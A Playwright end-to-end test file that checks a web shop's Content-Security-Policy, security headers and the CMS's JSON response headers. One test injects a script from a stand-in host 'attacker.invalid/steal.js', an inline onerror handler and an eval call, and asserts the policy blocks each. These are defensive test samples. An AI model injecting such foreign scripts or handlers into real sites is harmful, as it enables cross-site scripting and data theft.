import { allProducts, cmsUrl } from './support/fixtures';
import { expect, test, type APIRequestContext } from './support/test';

/** The policy's directives by name (`img-src` → its sources). */
function directives(policy: string): Map<string, string[]> {
  return new Map(
    policy
      .split(';')
      .map((d) => d.trim().split(/\s+/))
      .filter(([name]) => name)
      .map(([name, ...sources]) => [name!.toLowerCase(), sources]),
  );
}

async function pages(request: APIRequestContext): Promise<string[]> {
  const product = (await allProducts(request))[0];
  if (!product) throw new Error('the seeded catalogue has no product');
  return ['/', `/product/${product.slug}`, '/filter', '/checkout'];
}

test('home, a product page, /filter and /checkout send the Content-Security-Policy and the other headers', async ({
  request,
}) => {
  const cmsOrigin = new URL(process.env.E2E_CMS_URL ?? '').origin;
  for (const path of await pages(request)) {
    const res = await request.get(path);
    expect(res.status(), path).toBe(200);
    const headers = res.headers();
    const policy = directives(headers['content-security-policy'] ?? '');

    const scripts = policy.get('script-src') ?? [];
    // This build has neither a Stripe key nor an analytics id: scripts come from the shop alone.
    expect(scripts, path).toEqual(["'self'", "'unsafe-inline'"]);
    expect(policy.get('script-src-attr'), path).toEqual(["'none'"]);
    for (const [name, sources] of policy) {
      for (const source of sources) {
        expect(source, `${path} ${name}`).not.toContain('*');
        expect(source, `${path} ${name}`).not.toBe("'unsafe-eval'");
        expect(source, `${path} ${name}`).not.toMatch(/^(https?|blob|wss?):$/);
      }
    }
    expect(policy.get('default-src'), path).toEqual(["'self'"]);
    expect(policy.get('object-src'), path).toEqual(["'none'"]);
    expect(policy.get('base-uri'), path).toEqual(["'self'"]);
    expect(policy.get('frame-ancestors'), path).toEqual(["'none'"]);
    expect(policy.get('form-action'), path).toEqual(["'self'"]);
    expect(policy.get('img-src'), path).toContain(cmsOrigin);
    expect(headers['content-security-policy'], path).not.toMatch(/stripe|google-analytics|googletagmanager/);
    expect(policy.has('upgrade-insecure-requests'), `${path}: the e2e shop is served over http`).toBe(false);

    // HSTS only for an https SITE_URL; this shop runs on http://localhost.
    expect(headers['strict-transport-security'], path).toBeUndefined();
    expect(headers['x-content-type-options'], path).toBe('nosniff');
    expect(headers['x-frame-options'], path).toBe('DENY');
    expect(headers['referrer-policy'], path).toBe('strict-origin-when-cross-origin');
  }
});

test("the build's scripts carry nosniff but not the document headers", async ({ request }) => {
  const html = await (await request.get('/')).text();
  const scripts = [...html.matchAll(/<script[^>]*\ssrc="(\/_next\/static\/[^"]+)"/g)].map((m) => m[1]!);
  expect(scripts.length).toBeGreaterThan(0);
  for (const src of scripts) {
    const headers = (await request.get(src)).headers();
    expect(headers['content-type'], src).toMatch(/javascript/);
    expect(headers['x-content-type-options'], src).toBe('nosniff');
    expect(headers['content-security-policy'], src).toBeUndefined();
    expect(headers['x-frame-options'], src).toBeUndefined();
    expect(headers['permissions-policy'], src).toBeUndefined();
  }
});

test('the pages render, hydrate and show CMS images under the policy with no violation', async ({
  page,
  request,
}) => {
  for (const path of await pages(request)) {
    await page.goto(path);
    await expect(page.getByRole('banner'), path).toBeVisible();
  }
  // A product photo, served through the image optimiser from the CMS, actually loads.
  const product = (await allProducts(request))[0]!;
  await page.goto(`/product/${product.slug}`);
  const photo = page.getByRole('main').locator('img').first();
  await expect(photo).toBeVisible();
  await expect.poll(() => photo.evaluate((img: HTMLImageElement) => img.naturalWidth)).toBeGreaterThan(0);
});

test('the policy blocks a foreign script, an inline event handler and eval, and the fixture reports them', async ({
  page,
  cspViolations,
}) => {
  await page.goto('/');
  await expect(page.getByRole('banner')).toBeVisible();
  const outcome = await page.evaluate(async () => {
    const script = document.createElement('script');
    // Never fetched: the policy refuses it before any request (only loopback is reachable here anyway).
    script.src = 'https://attacker.invalid/steal.js';
    const blocked = new Promise<boolean>((resolve) => {
      script.onerror = () => resolve(true);
      script.onload = () => resolve(false);
    });
    document.head.append(script);
    document.body.insertAdjacentHTML(
      'beforeend',
      '<img src="/no-such-image.png" onerror="window.pwned = 1">',
    );
    // eval from the page's own script, started from a timer: code run inside page.evaluate may eval.
    const probe = document.createElement('script');
    probe.textContent =
      "try { eval('1 + 1'); window.evalError = 'none'; } catch (e) { window.evalError = e.name; }";
    setTimeout(() => document.head.append(probe), 0);
    return { foreignBlocked: await blocked };
  });
  expect(outcome.foreignBlocked).toBe(true);
  const global = (name: string) =>
    page.evaluate((n) => (window as unknown as Record<string, unknown>)[n], name);
  await expect.poll(() => global('evalError')).toBe('EvalError');
  // Each refusal reached the fixture through the console.
  const reported = () => ({
    foreignScript: cspViolations.some((v) => v.includes('attacker.invalid')),
    inlineHandler: cspViolations.some((v) => v.includes('script-src-attr')),
    eval: cspViolations.some((v) => /eval/i.test(v)),
  });
  await expect.poll(reported).toEqual({ foreignScript: true, inlineHandler: true, eval: true });
  expect(await global('pwned')).toBeUndefined();
  // These violations were the point of this test: clear them so the fixture's end-of-test check passes.
  cspViolations.length = 0;
});

test("the CMS's JSON answers allow nothing to load, run or frame them", async ({ request }) => {
  const res = await request.get(cmsUrl('/carousel/get'));
  expect(res.ok()).toBe(true);
  expect(res.headers()['content-security-policy']).toBe("default-src 'none'; frame-ancestors 'none'");
});
